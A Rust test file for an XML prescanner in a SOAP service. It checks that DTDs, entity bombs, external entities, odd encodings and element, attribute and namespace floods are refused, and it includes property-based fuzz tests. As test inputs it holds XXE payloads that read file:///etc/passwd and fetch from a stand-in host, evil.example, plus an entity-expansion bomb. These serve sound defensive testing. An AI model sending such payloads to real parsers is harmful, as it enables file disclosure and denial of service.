//! What is refused before a tree is built: floods, DTDs, odd encodings.

use crate::delivery::soap::{Document, PrescanError, PrescanLimits, ReadError, prescan};
use mbx_common::error::Kind;
use proptest::prelude::*;
use std::fmt::Write as _;

#[test]
fn a_document_type_declaration_is_refused() {
    assert_refused("<!DOCTYPE a><a/>", PrescanError::Doctype);
}

#[test]
fn entities_that_grow_without_end_are_refused() {
    let bomb = "<!DOCTYPE a [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;&a;\">]><a>&b;</a>";
    assert_refused(bomb, PrescanError::Doctype);
}

#[test]
fn an_external_entity_is_refused() {
    let external = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
    assert_refused(external, PrescanError::Doctype);
}

#[test]
fn a_parameter_entity_is_refused() {
    let parameter = "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/x\"> %x;]><a/>";
    assert_refused(parameter, PrescanError::Doctype);
}

#[test]
fn a_declaration_inside_the_content_is_refused() {
    assert_refused("<a><!ENTITY x \"y\"></a>", PrescanError::Doctype);
}

#[test]
fn a_reference_to_an_entity_that_nobody_declared_is_refused() {
    assert_refused("<a>&x;</a>", PrescanError::Entity);
    assert_refused("<a b=\"&x;\"/>", PrescanError::Entity);
    assert_refused("<a/>&x;", PrescanError::Entity);
}

#[test]
fn a_reference_that_does_not_end_is_refused() {
    for text in ["&", "&amp", "&#;", "&#x;", "&#xZZ;", "&#99999999999999;"] {
        assert_refused(&format!("<a>{text}</a>"), PrescanError::Entity);
    }
}

#[test]
fn a_character_reference_to_no_character_is_refused() {
    for text in ["&#0;", "&#1;", "&#xD800;", "&#x110000;", "&#xFFFF;", "&#+65;"] {
        assert_refused(&format!("<a>{text}</a>"), PrescanError::Entity);
        assert_refused(&format!("<a b='{text}'/>"), PrescanError::Entity);
    }
}

/// XML reads such a return as a line feed; the tree would keep it.
#[test]
fn a_carriage_return_alone_beside_a_reference_is_refused() {
    for text in ["\r&amp;", "&amp;\r", "x\r&#10;", "&#13;\r&#10;", "\r\r&lt;", "&#13;\r"] {
        assert_refused(&format!("<a>{text}</a>"), PrescanError::CarriageReturn);
    }
}

#[test]
fn every_other_carriage_return_is_read_as_xml_says() {
    for (text, said) in [
        ("a\rb", "a\nb"),
        ("a\r\nb", "a\nb"),
        ("\r", "\n"),
        ("&amp;x\ry", "&x\ny"),
        ("&amp;\rx", "&\nx"),
        ("&amp;\r\r", "&\n\n"),
        ("&#65;\r\r\n", "A\n\n"),
        ("&#13;\n", "\r\n"),
        ("&#13;\r\n", "\r\n"),
        ("&amp;\r\n&amp;", "&\n&"),
        ("a\r\r\nb&#13;", "a\n\nb\r"),
        ("&amp;<![CDATA[\r]]>&amp;", "&\n&"),
    ] {
        let text = format!("<a>{text}</a>");
        let document = read(&text).unwrap();
        assert_eq!(document.root().0.text(), Some(said), "{text:?}");
    }
}

#[test]
fn the_predefined_and_numeric_references_and_cdata_are_taken() {
    let text = "<a b=\"&lt;&#9;\">&amp;&lt;&gt;&quot;&apos;&#229;&#xE5;<![CDATA[<b>&x;]]]]></a>";
    read(text).unwrap();
}

#[test]
fn a_comment_is_refused_wherever_it_stands() {
    for text in ["<!-- x --><a/>", "<a><!-- x --></a>", "<a/><!-- x -->"] {
        assert_refused(text, PrescanError::Comment);
    }
}

#[test]
fn a_processing_instruction_is_refused_wherever_it_stands() {
    for text in ["<?x y?><a/>", "<a><?x y?></a>", "<a/><?x y?>", "<?xml-stylesheet href='x'?><a/>"]
    {
        assert_refused(text, PrescanError::ProcessingInstruction);
    }
}

#[test]
fn a_second_or_late_xml_declaration_is_refused() {
    let twice = "<?xml version=\"1.0\"?><?xml version=\"1.0\"?><a/>";
    assert_refused(twice, PrescanError::ProcessingInstruction);
    assert_refused(" <?xml version=\"1.0\"?><a/>", PrescanError::ProcessingInstruction);
}

#[test]
fn utf_8_is_taken_with_and_without_mark_and_declaration() {
    for text in [
        "<a/>",
        "\u{feff}<a/>",
        "<?xml version=\"1.0\"?><a/>",
        "<?xml version='1.0' encoding='utf-8' ?>\n<a/>",
        "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><a/>",
    ] {
        read(text).unwrap();
    }
}

#[test]
fn another_encoding_is_refused_whether_declared_or_used() {
    for name in ["ISO-8859-1", "UTF-16", "UTF-7", "us-ascii", "windows-1252"] {
        let text = format!("<?xml version=\"1.0\" encoding=\"{name}\"?><a/>");
        assert_refused(&text, PrescanError::Encoding);
    }
    let utf16: Vec<u8> = "\u{feff}<a/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(prescan(&utf16, &PrescanLimits::default()), Err(PrescanError::NotUtf8));
    assert_eq!(prescan(b"<a>\xe5</a>", &PrescanLimits::default()), Err(PrescanError::NotUtf8));
    // An over-long form of `<`, which lenient decoders take for it.
    assert_eq!(prescan(b"<a>\xc0\xbc</a>", &PrescanLimits::default()), Err(PrescanError::NotUtf8));
}

#[test]
fn an_xml_declaration_of_another_form_is_refused() {
    for text in [
        "<?xml version=\"1.1\"?><a/>",
        "<?xml ?><a/>",
        "<?xml encoding=\"UTF-8\"?><a/>",
        "<?xml version=\"1.0\" version=\"1.0\"?><a/>",
        "<?xml encoding=\"UTF-8\" version=\"1.0\"?><a/>",
        "<?xml version=\"1.0\" standalone=\"maybe\"?><a/>",
        "<?xml version=\"1.0\"encoding=\"UTF-8\"?><a/>",
        "<?xml version=1.0?><a/>",
        "<?xml version=\"1.0\"",
    ] {
        assert_refused(text, PrescanError::Declaration);
    }
}

#[test]
fn a_null_or_control_character_is_refused() {
    for text in ["<a>\0</a>", "<a>\u{1}</a>", "<a>\u{ffff}</a>"] {
        assert!(matches!(read(text), Err(ReadError::NotWellFormed { .. })));
    }
}

#[test]
fn depth_48_is_taken_and_49_refused() {
    let nested = |depth: usize| "<a>".repeat(depth) + &"</a>".repeat(depth);
    read(&nested(48)).unwrap();
    assert_refused(&nested(49), PrescanError::Depth { max: 48 });
    assert_refused(&nested(4_000), PrescanError::Depth { max: 48 });
}

#[test]
fn elements_nested_a_million_deep_are_refused() {
    assert_refused(&"<a>".repeat(1_000_000), PrescanError::Elements { max: 20_000 });
}

#[test]
fn elements_up_to_20_000_are_taken_and_one_more_refused() {
    let flat = |count: usize| format!("<a>{}</a>", "<b/>".repeat(count - 1));
    read(&flat(20_000)).unwrap();
    assert_refused(&flat(20_001), PrescanError::Elements { max: 20_000 });
}

#[test]
fn attributes_up_to_48_on_an_element_are_taken_and_one_more_refused() {
    read(&with_attributes(48)).unwrap();
    assert_refused(&with_attributes(49), PrescanError::Attributes { max: 48 });
}

#[test]
fn a_flood_of_attributes_on_one_element_is_refused() {
    for count in [20_000, 80_000] {
        assert_refused(&with_attributes(count), PrescanError::Attributes { max: 48 });
    }
    let max = 40_000;
    assert_refused(&with_attributes(100_000), PrescanError::AttributesTotal { max });
}

#[test]
fn attributes_up_to_40_000_in_all_are_taken_and_one_more_refused() {
    let elements = with_attributes(40).repeat(1_000);
    read(&format!("<r>{elements}</r>")).unwrap();
    let text = format!("<r one=\"more\">{elements}</r>");
    assert_refused(&text, PrescanError::AttributesTotal { max: 40_000 });
}

#[test]
fn a_flood_of_namespace_declarations_on_one_element_is_refused() {
    assert_refused(&with_declarations(79_000), PrescanError::Attributes { max: 48 });
}

#[test]
fn namespace_declarations_piled_up_on_the_way_down_are_refused() {
    let mut text = String::new();
    for depth in 0..20 {
        text.push_str("<a");
        for n in 0..10 {
            write!(text, " xmlns:p{depth}x{n}=\"u\"").unwrap();
        }
        text.push('>');
    }
    assert_refused(&text, PrescanError::Namespaces { max: 96 });
}

#[test]
fn many_elements_that_each_copy_many_declarations_are_refused() {
    let child = "<b xmlns:q=\"u\"/>".repeat(19_000);
    let two: String = (0..48).map(|n| format!(" xmlns:p{n}=\"u\"")).collect();
    let more: String = (0..40).map(|n| format!(" xmlns:r{n}=\"u\"")).collect();
    let text = format!("<a{two}><a{more}>{child}</a></a>");
    assert_refused(&text, PrescanError::Namespaces { max: 96 });
}

#[test]
fn up_to_96_declarations_in_scope_are_taken_and_one_more_refused() {
    let declared =
        |prefix: &str| -> String { (0..48).map(|n| format!(" xmlns:{prefix}{n}=\"u\"")).collect() };
    let around = |inner: &str| format!("<a{}><a{}>{inner}</a></a>", declared("p"), declared("q"));
    read(&around("")).unwrap();
    assert_refused(&around("<b xmlns:r=\"u\"/>"), PrescanError::Namespaces { max: 96 });
    // What declares nothing copies nothing, wherever it stands.
    read(&around(&"<b/>".repeat(19_000))).unwrap();
}

#[test]
fn an_attribute_without_a_name_or_without_its_end_is_refused_before_a_tree_is_built() {
    for text in ["<a ='x'/>", "<a b='<'/>", "<a b='x/>", "<a b/>"] {
        let verdict = prescan(text.as_bytes(), &PrescanLimits::default());
        assert_eq!(verdict, Err(PrescanError::Malformed), "{text}");
    }
}

#[test]
fn copies_of_declarations_are_taken_up_to_their_limit() {
    let verdict = |scope_work_max| {
        let limits = PrescanLimits { scope_work_max, ..PrescanLimits::default() };
        prescan(b"<a xmlns:p='u'><b xmlns:q='u'/></a>", &limits)
    };
    assert_eq!(verdict(3), Ok(()));
    assert_eq!(verdict(2), Err(PrescanError::Namespaces { max: 96 }));
}

#[test]
fn a_default_declaration_per_element_as_dotnet_writes_is_taken() {
    let child = "<b xmlns=\"u\"/>".repeat(19_000);
    read(&format!("<a xmlns=\"v\">{child}</a>")).unwrap();
}

#[test]
fn a_start_tag_of_over_16_kib_is_refused() {
    let tag = |len: usize| format!("<a b=\"{}\"/>", "x".repeat(len));
    read(&tag(16_000)).unwrap();
    for len in [16 * 1024, 4 << 20] {
        assert_refused(&tag(len), PrescanError::TagLen { max: 16 * 1024 });
    }
    assert_refused(&format!("<{}/>", "a".repeat(1 << 20)), PrescanError::TagLen { max: 16 * 1024 });
    let end = format!("<a></a{}>", " ".repeat(1 << 20));
    assert_refused(&end, PrescanError::TagLen { max: 16 * 1024 });
}

#[test]
fn marks_in_text_that_would_make_the_tree_reserve_room_are_refused() {
    let max = 40_000;
    let text = format!("<a>{}</a>", "=".repeat(1 << 20));
    assert_refused(&text, PrescanError::AttributesTotal { max });
    let cdata = format!("<a><![CDATA[{}]]></a>", "<".repeat(1 << 20));
    assert_refused(&cdata, PrescanError::Elements { max: 20_000 });
}

#[test]
fn a_default_namespace_declared_twice_on_an_element_is_refused() {
    assert_refused("<a xmlns=\"u\" xmlns=\"v\"/>", PrescanError::Declares);
}

#[test]
fn the_prefix_xml_declared_twice_on_an_element_is_refused() {
    let once = " xmlns:xml='http://www.w3.org/XML/1998/namespace'";
    assert!(read(&format!("<a{once}/>")).is_ok());
    assert_refused(&format!("<a{once}{once}/>"), PrescanError::Declares);
}

#[test]
fn a_name_that_begins_with_a_colon_is_refused() {
    for text in
        ["<:a/>", "<:a></:a>", "<a></:a>", "<a><:b/></a>", "<a :b=''/>", "<a :xmlns='urn:b'/>"]
    {
        let error = read(text).unwrap_err();
        assert!(matches!(error, ReadError::Prescan(_)), "{text}: {error}");
    }
}

#[test]
fn an_attribute_that_some_parsers_take_for_a_declaration_is_refused() {
    assert_refused("<a xmlns:p=\"u\" p:xmlns=\"v\"/>", PrescanError::Declares);
}

#[test]
fn a_prefix_bound_to_no_namespace_is_refused() {
    assert_refused("<a xmlns:p=\"\"/>", PrescanError::Declares);
}

#[test]
fn the_reserved_prefixes_are_not_bound_anew() {
    for text in [
        "<a xmlns:xml=\"u\"/>",
        "<a xmlns:p=\"http://www.w3.org/XML/1998/namespace\"/>",
        "<a xmlns:xmlns=\"http://www.w3.org/2000/xmlns/\"/>",
        "<xmlns:a xmlns:xmlns=\"u\"/>",
        "<a xmlns:xmlns=\"u\"/>",
    ] {
        assert!(read(text).is_err(), "{text}");
    }
}

#[test]
fn what_does_not_end_is_refused() {
    for text in ["<a", "<a>", "<a b", "<a b=", "<a b=\"", "<a><![CDATA[", "</a>", "<a/></a>", "<"] {
        assert_refused(text, PrescanError::Malformed);
    }
}

#[test]
fn what_is_not_well_formed_is_refused_by_the_tree() {
    for text in [
        "",
        "x",
        "<a/>x",
        "<a></b>",
        "<a/><b/>",
        "<a b='1' b='2'/>",
        "<p:a/>",
        "<a>]]></a>",
        "<a b=\"<\"/>",
        "<a  b='1'c='2'/>",
        "<1a/>",
        "< a/>",
        "<a ::='x'/>",
    ] {
        assert!(read(text).is_err(), "{text}");
    }
}

#[test]
fn every_cause_is_the_senders_move_with_its_code() {
    assert_eq!(PrescanError::Doctype.error_code(), 5001);
    assert_eq!(PrescanError::Depth { max: 1 }.error_code(), 5005);
    assert_eq!(PrescanError::Entity.kind(), Kind::Usage);
    let not_well_formed = read("<a></b>").unwrap_err();
    assert_eq!((not_well_formed.kind(), not_well_formed.error_code()), (Kind::Usage, 5001));
    assert!(!not_well_formed.to_string().contains("</b>"));
}

/// A tree of elements with few names, attributes and texts, written out.
fn document() -> impl Strategy<Value = String> {
    let text = prop_oneof![
        Just(String::new()),
        "[ a-zåäö\n>]{0,8}".prop_map(|text| text.replace("]]>", "")),
        Just("&amp;&#229;".to_owned()),
        Just("<![CDATA[<x> ]] & =]]>".to_owned()),
    ];
    let attributes = prop::collection::btree_map("[a-d]", "[ a-z>/=']{0,5}", 0..3);
    let leaf = (text, attributes).prop_map(|(text, attributes)| {
        let attributes: String =
            attributes.iter().map(|(n, v)| format!(" {n} = \"{v}\"")).collect();
        if text.is_empty() {
            format!("<e{attributes}/>")
        } else {
            format!("<e{attributes}>{text}</e>")
        }
    });
    leaf.prop_recursive(4, 24, 4, |inner| {
        (prop::collection::vec(inner, 0..4), any::<bool>()).prop_map(|(children, declared)| {
            let declared = if declared { " xmlns='u' xmlns:p=\"v\"" } else { "" };
            format!("<f{declared}>{}</f>", children.concat())
        })
    })
}

proptest! {
    /// The scanner splits as the tree does: whatever is well formed and within the limits passes,
    /// and it counts exactly the elements and the depth of the tree.
    #[test]
    fn the_scanner_sees_the_elements_that_the_tree_has(text in document()) {
        let tree = roxmltree::Document::parse(&text).unwrap();
        let elements = tree.descendants().filter(roxmltree::Node::is_element).count();
        let depth = tree.descendants().map(|node| node.ancestors().filter(roxmltree::Node::is_element).count());
        let depth = depth.max().unwrap_or_default();
        let exact = PrescanLimits { elements_max: elements, depth_max: depth, ..generous() };
        prop_assert_eq!(prescan(text.as_bytes(), &exact), Ok(()));
        let fewer = PrescanLimits { elements_max: elements - 1, ..generous() };
        prop_assert_eq!(prescan(text.as_bytes(), &fewer).is_err(), true);
        let flatter = PrescanLimits { depth_max: depth - 1, ..generous() };
        prop_assert_eq!(prescan(text.as_bytes(), &flatter), Err(PrescanError::Depth { max: depth - 1 }));
    }

    /// No bytes make it panic.
    #[test]
    fn any_bytes_are_read_or_refused(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let read = Document::read(&bytes, &PrescanLimits::default());
        prop_assert!(read.is_err() || std::str::from_utf8(&bytes).is_ok());
    }

    /// No markup makes it panic, and the tree's limit of nodes refuses nothing that it let pass.
    #[test]
    fn any_markup_is_read_or_refused(text in "[<>/=\"'&;!?\\[\\]a-c: #x-]{0,60}") {
        let read = Document::read(text.as_bytes(), &PrescanLimits::default());
        prop_assert_eq!(read.is_ok(), roxmltree::Document::parse(&text).is_ok() && passes(&text));
    }
}

fn passes(text: &str) -> bool {
    prescan(text.as_bytes(), &PrescanLimits::default()).is_ok()
}

fn generous() -> PrescanLimits {
    PrescanLimits { attributes_total_max: 1_000, ..PrescanLimits::default() }
}

fn with_attributes(count: usize) -> String {
    let mut text = String::from("<a");
    for n in 0..count {
        write!(text, " a{n}='' ").unwrap();
    }
    text + "/>"
}

fn with_declarations(count: usize) -> String {
    let mut text = String::from("<a");
    for n in 0..count {
        write!(text, " xmlns:p{n}='u{n}'").unwrap();
    }
    text + "/>"
}

fn read(text: &str) -> Result<Document<'_>, ReadError> {
    Document::read(text.as_bytes(), &PrescanLimits::default())
}

fn assert_refused(text: &str, cause: PrescanError) {
    assert_eq!(read(text).err(), Some(ReadError::Prescan(cause)));
}
